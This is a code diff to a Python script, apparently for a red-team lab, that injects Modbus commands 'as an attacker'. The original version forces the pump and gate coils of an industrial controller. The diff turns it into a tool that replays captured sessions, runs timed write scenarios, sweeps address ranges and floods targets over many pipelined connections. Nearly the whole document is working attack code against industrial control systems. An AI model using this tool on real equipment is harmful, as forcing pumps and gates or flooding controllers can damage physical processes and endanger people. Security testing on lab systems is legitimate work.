@@ -2,91 +2,491 @@
 """
 Directly inject modbus commands as an attacker, forcing the coil value to our desired values.
 
-Based on the Pymodbus asynchronous client example.
+Without a scenario, the pump and gate coils are overwritten every 0.3 s, as before.
+For red-team drills the same engine runs a scenario of timed reads and writes, or
+replays the requests of a captured Modbus session, against many targets over many
+concurrent connections, and reports the achieved rate and response latency.
 
-usage: inject.py [-h] [--pump | --no-pump] [--gate | --no-gate]
+Requests are framed directly on asyncio streams rather than through the pymodbus
+client, so they can be paced down to the microsecond and pipelined (--inflight).
+Each connection works through its own schedule:
+- scenario / capture timing, scaled by --speed
+- --rate requests per second, ignoring the scenario timing
+- --flood, back to back as fast as the target answers
+
+A scenario is a JSON file of steps, repeated every "period" seconds if given:
+
+    {
+      "period": 1.0,
+      "steps": [
+        {"at": 0.0, "function": "write_coil", "address": 0, "value": true},
+        {"at": 0.0, "function": "write_coils", "address": 0, "value": [true, false]},
+        {"at": 0.25, "function": "read_coils", "address": 0, "count": 2, "unit": 1},
+        {"at": 0.5, "function": "write_registers", "address": 0, "value": [0, 1]},
+        {"at": 0.75, "pdu": "2b 0e 01 00"}
+      ]
+    }
+
+Functions are read_coils, read_discrete_inputs, read_holding_registers,
+read_input_registers, write_coil, write_register, write_coils and write_registers,
+or any raw PDU given in hex.
+
+usage: inject.py [-h] [--pump | --no-pump] [--gate | --no-gate] [--scenario SCENARIO | --replay PCAP [PCAP ...]]
+                 [--replay-port REPLAY_PORT] [--target TARGET] [--unit UNIT] [--connections CONNECTIONS]
+                 [--inflight INFLIGHT] [--speed SPEED | --rate RATE | --flood] [--repeat REPEAT]
+                 [--duration DURATION] [--timeout TIMEOUT] [--json]
 
 options:
   -h, --help         show this help message and exit
   --pump, --no-pump  Force the pump to turn on/off (default off)
   --gate, --no-gate  Force the gate to be opened/closed (default closed)
 
+Examples:
+    inject.py --pump --gate
+    inject.py --scenario flip.json --target 192.168.65.10 --target 192.168.75.5 --connections 10 --duration 30
+    inject.py --replay scada.pcap --target 127.0.0.1:5020 --speed 10 --json
+    inject.py --scenario flip.json --target 127.0.1.1-50:5020 --rate 1000 --inflight 8 --duration 10
 """
 from __future__ import annotations
 
 import asyncio
-import logging
 import argparse
+import json
+import logging
+import signal
+import struct
+import time
+from array import array
+from collections import defaultdict
 
-import pymodbus.client as modbusClient
+from modbus_pcap import MBAP, Flow, function_name, percentiles, read_flows
 
 
 _logger = logging.getLogger(__file__)
-_logger.setLevel("DEBUG")
 
+DEFAULT_TARGET = "192.168.65.10:502"
+MODBUS_PORT = 502
+# seconds between overwrites of the pump and gate without a scenario
+FORCE_PERIOD = 0.3
+# requests due within this many seconds are waited for by yielding instead of sleeping,
+# as the event loop sleeps with millisecond resolution
+SPIN = 0.002
+# seconds between status lines
+LOG_INTERVAL = 5.0
 
-def setup_args():
+FUNCTIONS = {
+    "read_coils": 1,
+    "read_discrete_inputs": 2,
+    "read_holding_registers": 3,
+    "read_input_registers": 4,
+    "write_coil": 5,
+    "write_register": 6,
+    "write_coils": 15,
+    "write_registers": 16,
+}
+
+
+def setup_args(cmdline=None):
     parser = argparse.ArgumentParser(prog="inject.py")
     parser.add_argument('--pump',
                         help='Force the pump to turn on/off (default off)',
                         action=argparse.BooleanOptionalAction,
                         default=False)
-    parser.add_argument('--gate', 
+    parser.add_argument('--gate',
                         help="Force the gate to be opened/closed (default closed)",
                         action=argparse.BooleanOptionalAction,
                         default=False)
-    args = parser.parse_args()
+    source = parser.add_mutually_exclusive_group()
+    source.add_argument('--scenario', help="run the steps of a JSON scenario file instead")
+    source.add_argument('--replay', metavar="PCAP", nargs="+",
+                        help="replay the requests of every client connection in pcap / pcapng captures instead")
+    parser.add_argument('--replay-port', type=int, default=MODBUS_PORT,
+                        help="Modbus server port in the captures (default 502)")
+    parser.add_argument('--target', action="append",
+                        help=f"host[:port] to send to, repeatable; a last octet range like 127.0.1.1-50 "
+                             f"adds every address (default {DEFAULT_TARGET})")
+    parser.add_argument('--unit', type=int, default=None,
+                        help="device id of steps without one, and of all replayed requests (default 1, replays keep theirs)")
+    parser.add_argument('--connections', type=int, default=1, help="concurrent connections per target (default 1)")
+    parser.add_argument('--inflight', type=int, default=1, help="requests pipelined on each connection (default 1)")
+    timing = parser.add_mutually_exclusive_group()
+    timing.add_argument('--speed', type=float, default=1.0, help="scale the scenario / capture timing, 10 = ten times faster")
+    timing.add_argument('--rate', type=float, help="send at this many requests per second per connection")
+    timing.add_argument('--flood', action="store_true", help="send back to back")
+    parser.add_argument('--repeat', type=int, default=0,
+                        help="passes of the steps, default is once without a period and forever with one")
+    parser.add_argument('--duration', type=float, default=0, help="stop after this many seconds (default run to the end)")
+    parser.add_argument('--timeout', type=float, default=10, help="seconds to wait for a connection or response (default 10)")
+    parser.add_argument('--json', action="store_true", help="print the report as JSON")
+    args = parser.parse_args(cmdline)
+    if args.connections < 1 or args.inflight < 1 or (args.speed is not None and args.speed <= 0) \
+            or (args.rate is not None and args.rate <= 0):
+        parser.error("connections, inflight, speed and rate must be positive")
     return args
 
 
-def setup_async_client() -> modbusClient.ModbusBaseClient:
-    """Run client setup."""
-    _logger.info("### Create client object")
-    client: modbusClient.ModbusBaseClient | None = None
-    client = modbusClient.AsyncModbusTcpClient(
-            '192.168.65.10',
-            port='502', 
-            # Common optional parameters:
-            framer='socket',
-            timeout=10,
-            retries=3,
-            reconnect_delay=1,
-            reconnect_delay_max=10,
-        )
-    return client
-
-
-async def run_async_client(client, modbus_calls=None, args=None):
-    """Run sync client."""
-    _logger.info("### Client starting")
-    await client.connect()
-    assert client.connected
-    if modbus_calls:
-        await modbus_calls(client, args)
-    client.close()
-    _logger.info("### End of Program")
-
-
-async def run_a_few_calls(client, args):
-    """Overwrite coil values to desired values."""
-
-    print('Overwriting pump to', args.pump)
-    print('Overwriting gate to', args.gate)
+def parse_targets(texts) -> list[tuple[str, int]]:
+    """Parse host[:port] targets, where the last octet of an IPv4 host may be a range."""
+    targets = []
+    for text in texts or [DEFAULT_TARGET]:
+        host, _, port = text.rpartition(":") if text.count(":") == 1 else (text, "", "")
+        port = int(port) if port else MODBUS_PORT
+        prefix, _, last = host.rpartition(".")
+        first, dash, end = last.partition("-")
+        if dash and prefix and first.isdigit() and end.isdigit():
+            targets.extend((f"{prefix}.{octet}", port) for octet in range(int(first), int(end) + 1))
+        else:
+            targets.append((host, port))
+    return targets
+
+
+def encode(step: dict) -> tuple[int, bytes]:
+    """Build the PDU of a scenario step, returns its function code and the PDU."""
+    if "pdu" in step:
+        pdu = bytes.fromhex(step["pdu"])
+        return pdu[0], pdu
+    name = step["function"]
+    if name not in FUNCTIONS:
+        raise ValueError(f"unknown function {name!r}")
+    code = FUNCTIONS[name]
+    address = step.get("address", 0)
+    value = step.get("value")
+    if code <= 4:
+        return code, struct.pack(">BHH", code, address, step.get("count", 1))
+    if code == 5:
+        return code, struct.pack(">BHH", code, address, 0xFF00 if value else 0)
+    if code == 6:
+        return code, struct.pack(">BHH", code, address, value)
+    if code == 15:
+        bits = bytearray((len(value) + 7) // 8)
+        for n, bit in enumerate(value):
+            if bit:
+                bits[n >> 3] |= 1 << (n & 7)
+        return code, struct.pack(">BHHB", code, address, len(value), len(bits)) + bits
+    return code, struct.pack(f">BHHB{len(value)}H", code, address, len(value), 2 * len(value), *value)
+
+
+def load_scenario(path, unit) -> tuple[list, float | None]:
+    """Load a scenario file, returns its steps as (time, unit, function, pdu) and its period."""
+    with open(path, encoding="utf-8") as f:
+        scenario = json.load(f)
+    steps = []
+    for step in scenario["steps"]:
+        code, pdu = encode(step)
+        steps.append((float(step.get("at", 0)), step.get("unit", 1 if unit is None else unit), code, pdu))
+    steps.sort(key=lambda step: step[0])
+    return steps, scenario.get("period")
 
+
+class CapturedSession(Flow):
+    """The requests of one captured client connection."""
+
+    def __init__(self, client, server):
+        super().__init__(client, server, details=0)
+        self.steps = []
+
+    def request(self, ts, tid, unit, pdu):
+        self.steps.append((ts, unit, pdu[0], pdu))
+
+    def response(self, ts, tid, unit, pdu):
+        pass
+
+
+def load_capture(paths, port, unit) -> list[list]:
+    """Load the requests of every client connection in captures, with times relative to its first request."""
+    flows, _, _, _ = read_flows(paths, port, CapturedSession)
+    sessions = []
+    for flow in sorted(flows.values(), key=lambda flow: flow.first):
+        if flow.steps:
+            first = flow.steps[0][0]
+            sessions.append([(ts - first, step_unit if unit is None else unit, code, pdu)
+                             for ts, step_unit, code, pdu in flow.steps])
+    return sessions
+
+
+def forced_steps(args) -> tuple[list, float]:
+    """The default scenario: overwrite both pump and gate to our desired value."""
+    unit = 1 if args.unit is None else args.unit
+    steps = [(0.0, unit, *encode({"function": "write_coil", "address": address, "value": value}))
+             for address, value in ((0, args.pump), (1, args.gate))]
+    return steps, FORCE_PERIOD
+
+
+def schedule(steps, period, repeat):
+    """Yield (due time, unit, function, pdu) of every pass over the steps."""
+    passes = 0
     while True:
-        # overwrite both pump and gate to our desired value
-        rr = await client.write_coil(0,args.pump)
-        rr = await client.write_coil(1,args.gate)
-        print(rr)
-        await asyncio.sleep(0.3)
+        offset = passes * period if period else 0.0
+        for at, unit, code, pdu in steps:
+            yield offset + at, unit, code, pdu
+        passes += 1
+        if not period or (repeat and passes >= repeat):
+            return
+
+
+class Results:
+    """Requests, responses and timing of one target and function."""
+
+    def __init__(self):
+        self.sent = 0
+        self.answered = 0
+        self.exceptions = 0
+        self.lost = 0
+        # seconds from sending to the response, and from the due time to sending
+        self.latencies = array("d")
+        self.lags = array("d")
+
+    def report(self, duration: float) -> dict:
+        report = {
+            "sent": self.sent,
+            "answered": self.answered,
+            "exceptions": self.exceptions,
+            "lost": self.lost,
+            "rate": round(self.sent / duration, 1) if duration else None,
+            "answer_rate": round(self.answered / duration, 1) if duration else None,
+        }
+        if self.latencies:
+            report["latency_ms"] = percentiles(self.latencies)
+        if self.lags:
+            report["late_ms"] = percentiles(self.lags)
+        return report
+
+
+class Connection:
+    """A Modbus/TCP connection with pipelined requests matched to responses by transaction id."""
+
+    def __init__(self, host, port, results, inflight, timeout):
+        self.host = host
+        self.port = port
+        self.results = results
+        self.timeout = timeout
+        self.window = asyncio.Semaphore(inflight)
+        # transaction id -> (send time, function)
+        self.pending: dict[int, tuple] = {}
+        self.tid = 0
+        self.reader = self.writer = None
+        self.receiver = None
+
+    async def open(self):
+        self.reader, self.writer = await asyncio.wait_for(asyncio.open_connection(self.host, self.port), self.timeout)
+        self.receiver = asyncio.create_task(self.receive())
+
+    async def send(self, unit, code, pdu, due, now):
+        while self.window.locked():
+            try:
+                await asyncio.wait_for(self.window.acquire(), self.timeout)
+                break
+            except asyncio.TimeoutError:
+                # e.g. the pymodbus server only answers the first of the requests in one segment
+                if not self.expire() or self.receiver.done():
+                    raise
+        else:
+            await self.window.acquire()
+        self.tid = (self.tid + 1) & 0xFFFF
+        sent = time.perf_counter()
+        self.pending[self.tid] = (sent, code)
+        results = self.results[code]
+        results.sent += 1
+        if due is not None:
+            results.lags.append(max(0.0, now - due))
+        self.writer.write(MBAP.pack(self.tid, 0, len(pdu) + 1, unit) + pdu)
+        await self.writer.drain()
+
+    def expire(self) -> int:
+        """Count the requests unanswered for the timeout as lost, returns their number."""
+        limit = time.perf_counter() - self.timeout
+        expired = [tid for tid, (sent, _) in self.pending.items() if sent < limit]
+        for tid in expired:
+            self.results[self.pending.pop(tid)[1]].lost += 1
+            self.window.release()
+        return len(expired)
+
+    async def receive(self):
+        """Match responses to requests until the connection closes."""
+        try:
+            while True:
+                header = await self.reader.readexactly(7)
+                tid, _, length, _ = MBAP.unpack(header)
+                pdu = await self.reader.readexactly(length - 1)
+                request = self.pending.pop(tid, None)
+                if request is None:
+                    continue
+                sent, code = request
+                results = self.results[code]
+                results.answered += 1
+                results.latencies.append(time.perf_counter() - sent)
+                if pdu and pdu[0] & 0x80:
+                    results.exceptions += 1
+                self.window.release()
+        except (asyncio.IncompleteReadError, ConnectionError):
+            pass
+
+    async def close(self):
+        """Wait for the outstanding responses, then close."""
+        deadline = time.perf_counter() + self.timeout
+        while self.pending and not self.receiver.done() and time.perf_counter() < deadline:
+            await asyncio.sleep(0.01)
+        for _, code in self.pending.values():
+            self.results[code].lost += 1
+        self.pending.clear()
+        self.receiver.cancel()
+        self.writer.close()
+
+
+async def drive(args, target, steps, period, results, stop) -> float | None:
+    """Send the schedule of one connection to a target, returns the time the last request was sent."""
+    host, port = target
+    connection = Connection(host, port, results, args.inflight, args.timeout)
+    try:
+        await connection.open()
+    except (OSError, asyncio.TimeoutError) as exc:
+        _logger.error(f"Connection to {host}:{port} failed: {exc}")
+        results["connect"].lost += 1
+        return None
+    loop = asyncio.get_running_loop()
+    start = loop.time()
+    try:
+        for n, (at, unit, code, pdu) in enumerate(schedule(steps, period, args.repeat)):
+            if stop.is_set():
+                break
+            if args.flood:
+                due = None
+            else:
+                due = start + (n / args.rate if args.rate else at / args.speed)
+                delay = due - loop.time()
+                if delay > SPIN:
+                    await asyncio.sleep(delay - SPIN)
+                while loop.time() < due:
+                    # sub-millisecond pacing, other connections run meanwhile
+                    await asyncio.sleep(0)
+            await connection.send(unit, code, pdu, due, loop.time())
+    except (OSError, asyncio.TimeoutError) as exc:
+        _logger.error(f"Connection to {host}:{port} failed: {exc or 'no response'}")
+    finally:
+        sent = time.perf_counter()
+        await connection.close()
+    return sent
+
+
+async def status(results, started, stop):
+    """Print a status line every LOG_INTERVAL seconds."""
+    last = 0
+    while not stop.is_set():
+        await asyncio.sleep(LOG_INTERVAL)
+        sent = sum(r.sent for by_code in results.values() for r in by_code.values())
+        answered = sum(r.answered for by_code in results.values() for r in by_code.values())
+        print(f"{time.perf_counter() - started:.0f}s: {sent} sent, {answered} answered, "
+              f"{(sent - last) / LOG_INTERVAL:.0f} requests/s")
+        last = sent
+
+
+async def run(args) -> dict:
+    """Run every connection, returns the report."""
+    if args.scenario:
+        sessions = [load_scenario(args.scenario, args.unit)]
+    elif args.replay:
+        sessions = []
+        for steps in load_capture(args.replay, args.replay_port, args.unit):
+            # repeated replays start again one average request interval after the last request
+            span = steps[-1][0]
+            sessions.append((steps, span + span / len(steps) if args.repeat > 1 and span else None))
+        if not sessions:
+            raise ValueError("no Modbus requests in the capture")
+    else:
+        print('Overwriting pump to', args.pump)
+        print('Overwriting gate to', args.gate)
+        sessions = [forced_steps(args)]
+
+    targets = parse_targets(args.target)
+    # target -> function code -> results
+    results = {target: defaultdict(Results) for target in targets}
+    stop = asyncio.Event()
+    loop = asyncio.get_running_loop()
+    loop.add_signal_handler(signal.SIGINT, stop.set)
+    loop.add_signal_handler(signal.SIGTERM, stop.set)
+    if args.duration:
+        loop.call_later(args.duration, stop.set)
+
+    _logger.info(f"### Injecting to {len(targets)} targets over {len(targets) * args.connections * len(sessions)} connections")
+    started = time.perf_counter()
+    reporter = asyncio.create_task(status(results, started, stop))
+    ends = await asyncio.gather(*(
+        drive(args, target, steps, period, results[target], stop)
+        for target in targets
+        for steps, period in sessions
+        for _ in range(args.connections)
+    ))
+    # rates are over the time requests were sent, without waiting for the last responses
+    duration = max((end for end in ends if end is not None), default=time.perf_counter()) - started
+    stop.set()
+    reporter.cancel()
+
+    report = {
+        "config": {
+            "source": args.scenario or args.replay or "force",
+            "targets": len(targets),
+            "connections": args.connections,
+            "sessions": len(sessions),
+            "inflight": args.inflight,
+            "timing": "flood" if args.flood else f"{args.rate}/s" if args.rate else f"x{args.speed}",
+            "duration": round(duration, 3),
+        },
+        "targets": {},
+    }
+    total = defaultdict(Results)
+    for (host, port), by_code in results.items():
+        report["targets"][f"{host}:{port}"] = {
+            (function_name(code) if code != "connect" else code): r.report(duration) for code, r in sorted(by_code.items(), key=str)
+        }
+        for code, r in by_code.items():
+            merged = total[code]
+            merged.sent += r.sent
+            merged.answered += r.answered
+            merged.exceptions += r.exceptions
+            merged.lost += r.lost
+            merged.latencies.extend(r.latencies)
+            merged.lags.extend(r.lags)
+    report["total"] = {
+        (function_name(code) if code != "connect" else code): r.report(duration) for code, r in sorted(total.items(), key=str)
+    }
+    return report
+
+
+def print_report(report):
+    config = report["config"]
+    print(f"\n{config['targets']} targets, {config['connections']} connections per target and session, "
+          f"{config['inflight']} in flight, timing {config['timing']}, {config['duration']} s")
+    for target, functions in [("total", report["total"])] + list(report["targets"].items()):
+        print(f"{target}:")
+        for name, r in functions.items():
+            line = f"  {name:<30} sent {r['sent']:<8} answered {r['answered']:<8} exceptions {r['exceptions']:<6} " \
+                   f"lost {r['lost']:<6} {r['rate']:>10.1f}/s"
+            if "latency_ms" in r:
+                latency = r["latency_ms"]
+                line += f"  latency p50 {latency['p50']:.3f} p99 {latency['p99']:.3f} max {latency['max']:.3f} ms"
+            if "late_ms" in r:
+                line += f"  late p99 {r['late_ms']['p99']:.3f} ms"
+            print(line)
+        if len(report["targets"]) > 20 and target == "total":
+            # per target lines are in the JSON report
+            break
 
 
 async def main(cmdline=None):
     """Combine setup and run."""
-    args = setup_args()
-    testclient = setup_async_client()
-    await run_async_client(testclient, modbus_calls=run_a_few_calls, args=args)
+    args = setup_args(cmdline)
+    try:
+        report = await run(args)
+    except (OSError, ValueError, KeyError) as exc:
+        print(f"inject.py: {exc}")
+        return 1
+    if args.json:
+        print(json.dumps(report, indent=2))
+    else:
+        print_report(report)
+    return 0
 
 
 if __name__ == "__main__":
-    asyncio.run(main(), debug=True)
+    logging.basicConfig(level=logging.INFO)
+    raise SystemExit(asyncio.run(main()))